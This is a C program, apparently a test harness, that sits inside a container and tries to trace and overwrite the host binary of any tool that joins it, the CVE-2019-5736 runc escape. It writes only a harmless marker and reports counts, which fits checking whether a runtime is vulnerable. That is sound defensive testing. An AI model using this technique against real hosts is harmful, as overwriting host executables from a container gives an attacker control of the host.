/* A process in a container that lies in wait for a tool of the host's that joins: it tries to trace
   it, and to write to the program that it runs (CVE-2019-5736). Ends when there is a file /stop, or
   after two minutes, and prints what it could do.

   attack-join PROGRAM...: those that are the container's own, and no prey. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { HELD = 512, NEAR = 8 };

static struct stat own[16];
static int owns, held[HELD], holding, traced, opened, written;

static int is_own(const struct stat *file)
{
    for (int i = 0; i < owns; i++)
        if (own[i].st_dev == file->st_dev && own[i].st_ino == file->st_ino) return 1;
    return 0;
}

/* What a process runs, if it may be looked at: a file that stays open past the process's end. */
static void open_program(const char *exe)
{
    struct stat file;
    int fd = open(exe, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    if (fstat(fd, &file) || is_own(&file) || holding == HELD) {
        close(fd);
        return;
    }
    opened++;
    held[holding++] = fd;
}

static void trace(pid_t pid, const char *exe)
{
    struct stat file;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0)) return;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    /* Stopped, so that what it runs now is what was caught. */
    if (waitpid(pid, NULL, __WALL) == pid && !stat(exe, &file) && !is_own(&file)) traced++;
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* A program cannot be written to while somebody runs it: ETXTBSY. So again and again. */
static void write_to_held(void)
{
    for (int i = 0; i < holding; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0) continue;
        if (pwrite(fd, "overwritten\n", 12, 0) == 12) written++;
        close(fd);
        close(held[i]);
        held[i--] = held[--holding];
    }
}

int main(int count, char **programs)
{
    time_t end = time(NULL) + 120;
    pid_t newest = getpid();
    stat("/proc/self/exe", &own[owns++]);
    for (int i = 1; i < count && owns < 16; i++)
        if (!stat(programs[i], &own[owns])) owns++;
    puts("waiting");
    fflush(stdout);
    while (access("/stop", F_OK) && time(NULL) < end) {
        for (int rounds = 0; rounds < 200; rounds++) {
            pid_t first = newest > getpid() + NEAR ? newest - NEAR : getpid() + 1;
            for (pid_t pid = first; pid <= newest + NEAR; pid++) {
                char exe[64];
                if (kill(pid, 0)) continue;
                if (pid > newest) newest = pid;
                snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
                open_program(exe);
                trace(pid, exe);
            }
        }
        write_to_held();
    }
    sleep(1);
    write_to_held();
    printf("traced %d, opened %d, written %d\n", traced, opened, written);
    return 0;
}
